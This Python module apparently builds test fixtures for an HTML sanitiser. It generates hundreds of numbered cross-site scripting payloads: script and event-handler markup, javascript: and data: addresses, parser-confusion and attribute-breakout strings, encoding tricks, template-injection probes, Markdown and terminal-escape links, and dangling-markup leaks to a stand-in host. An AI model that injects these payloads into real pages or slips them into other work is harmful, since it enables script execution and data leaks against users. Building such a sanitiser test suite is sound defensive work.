"""Scripts that a report may try to smuggle into a page: every way that we know of, made from parts of our own.

Each calls `alert(N)` with its own number where it runs, so that a browser tells which one did. The ways are those that
suites for sanitisers try: elements that run by themselves, elements with handlers, addresses that are programs, styles
that load or run, markup that changes its meaning when it is parsed twice, ways out of attributes, comments, scripts and
styles, templates of servers and browsers, Markdown, and signs that are written in another way than they are read.
"""

from __future__ import annotations

from itertools import cycle

_CALL = "alert(1)"
_EVENTS = """abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle
beforeunload begin blur bounce cancel canplay change click close contextmenu copy cuechange cut dblclick drag drop end
error finish focus focusin formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress load
loadstart mousedown mouseenter mouseover mousewheel pageshow paste play pointerdown pointerover pointerrawupdate popstate
readystatechange repeat reset resize scroll scrollend search securitypolicyviolation select selectstart slotchange start
submit toggle touchstart transitionend unhandledrejection unload volumechange webkitanimationend wheel""".split()  # noqa: SIM905 - a list of words
_HOLDERS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee", "a href=#", "x-new tabindex=1",
            "audio src=x", "math", "select autofocus", "iframe", "object data=x", "form", "button popovertarget=x")  # fmt: skip

# Addresses that are programs, written so that a filter may overlook them and a browser may not.
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript:%61lert(1)", "javascript://news.example/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "javascript:alert`1`", "javascript:\\u0061lert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x/>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/",
    "blob:null/1", "filesystem:http://news.example/x", "mhtml:http://news.example/x", "//news.example/x.js", "\\\\news.example\\x",
    "ｊavascript:alert(1)", "javascript\u200b:alert(1)",
)  # fmt: skip
_ADDRESSED = ('<a href="{}">more</a>', "<iframe src='{}'></iframe>", '<form action="{}"><input type=submit></form>',
              "<button formaction='{}'>go</button>", '<object data="{}"></object>', "<embed src='{}'>",
              '<base href="{}">', "<meta http-equiv=refresh content='0;url={}'>", '<link rel=stylesheet href="{}">',
              "<svg><a xlink:href='{}'><text>x</text></a></svg>", '<svg><use href="{}"/></svg>', "<area href='{}'>",
              '<svg><animate attributeName=href values="{}"/></svg>', "<math href='{}'>x</math>", '<img src="{}">')  # fmt: skip

# Markup that runs, or that means something else once it stands in a page.
_MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script >alert(1)</script >", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>", "<script src=//news.example/x.js></script>", "<script type=module>alert(1)</script>",
    "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>/*</script><script>*/alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><script>alert&lpar;1&rpar;</script>",
    "<script type=text/vbscript>MsgBox 1</script>", "<script type=importmap>{}</script>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>", "<object><param name=src value=javascript:alert(1)></object>",
    "<applet code=x></applet>", "<bgsound src=javascript:alert(1)>", "<layer src=//news.example>", "<xml src=x></xml>",
    "<isindex action=javascript:alert(1) type=image>", "<keygen autofocus onfocus=alert(1)>", "<portal src=//news.example></portal>",
    "<fencedframe></fencedframe>", "<style>@import '//news.example/x.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>body{-moz-binding:url(//news.example/x#y)}</style>", '<p style="width:expression(alert(1))">', "<p style='behavior:url(x.htc)'>",
    "<p style=\"background:url('//news.example/seen')\">", "<div style=position:fixed;inset:0>cover</div>", "<link rel=import href=//news.example>",
    "<link rel=prefetch href=//news.example/seen>", "<meta http-equiv=Content-Security-Policy content=''>", "<meta charset=utf-7>",
    "<img src=//news.example/seen>", "<img srcset='//news.example/seen 1x'>", "<video poster=//news.example/seen>", "<audio src=//news.example/seen autoplay>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg\x0conload=alert(1)>", "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<svg><image href=//news.example/seen />",
    "<svg><handler type=text/ecmascript>alert(1)</handler></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "--!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "]]><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<?php echo 1 ?><img src=x onerror=alert(1)>", "<%= 7*7 %><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]><x>&e;</x>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "<a id=desk><a id=desk name=cookie href=cid:x>", "<form id=document><input name=cookie>", "<img name=getElementById>", "<input name=csrf value=0>",
    "<form action=/leave method=post><button>Continue</button>", "<img src='//news.example/?", "<a href='//news.example/?", "<textarea name=seen>",
    "<dialog open><form method=dialog>", "<base target='", "<img src=x onerror=\x00alert(1)>", "<img src=x onerror\x0b=alert(1)>", "<\x00img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<img src=`x`onerror=alert(1)>", "<<img src=x onerror=alert(1)>//<",
    "<img src=x onerror=alert(1)//", '<img """><script>alert(1)</script>">', "<x onclick=alert(1) tabindex=0 id=x>x</x>", "<a href=x onclick\n=\nalert(1)>x</a>",
)  # fmt: skip

# Ways out of where the words of a report stand in a page.
_BREAKOUTS = (
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>", '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='", " onload=alert(1) ", '" style="position:fixed" x="', "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</bdi></a><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>", "</svg></p><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "*/alert(1)/*",
    "';alert(1);//", '";alert(1);//', "`${alert(1)}`", '\\";alert(1);//', "\u2028alert(1)\u2029", "</script/x><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "\ufe64script\ufe65alert(1)\ufe64/script\ufe65", "<\u017fcript>alert(1)</\u017fcript>", "<\u200bscript>alert(1)</script>",
    "{{ 7919*7907 }}", "{% print(7919*7907) %}", "{{ ''.__class__.__mro__ }}", "${7919*7907}", "#{7919*7907}", "<#assign x=1>", "*{7919*7907}", "[[${7919*7907}]]",
    "{{constructor.constructor('alert(1)')()}}", "<div ng-app ng-csp>{{alert(1)}}</div>", "<div v-html='alert(1)'></div>", "<div hx-get=//news.example hx-trigger=load></div>",
    "<div data-again=1 id=progress></div>", "<li><a class=ev href='//news.example/?at=1-2'>x</a></li>",
    "[more](javascript:alert(1))", "![x](javascript:alert(1))", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>", '[a](//news.example "x" onerror=alert(1))',
    "```\n</code><img src=x onerror=alert(1)>", "[^1]: <img src=x onerror=alert(1)>", "| a | <img src=x onerror=alert(1)> |", "![x](//news.example/seen)", "$$\\href{javascript:alert(1)}{x}$$",
    "\x1b]8;;javascript:alert(1)\x07more\x1b]8;;\x07", "[link=javascript:alert(1)]more[/link]", "\x9b31m<script>alert(1)</script>",
)  # fmt: skip


def _made() -> list[str]:
    handlers = [f"<{holder} on{event}={_CALL}>" for event, holder in zip(_EVENTS, cycle(_HOLDERS), strict=False)]
    addresses = [shape.format(one) for one, shape in zip(_SCHEMES, cycle(_ADDRESSED), strict=False)]
    addresses += [shape.format("javascript:alert(1)") for shape in _ADDRESSED]
    return [*_MARKUP, *_BREAKOUTS, *handlers, *addresses, *_SCHEMES]


PAYLOADS = tuple(one.replace(_CALL, f"alert({number})") for number, one in enumerate(dict.fromkeys(_made()), 1))
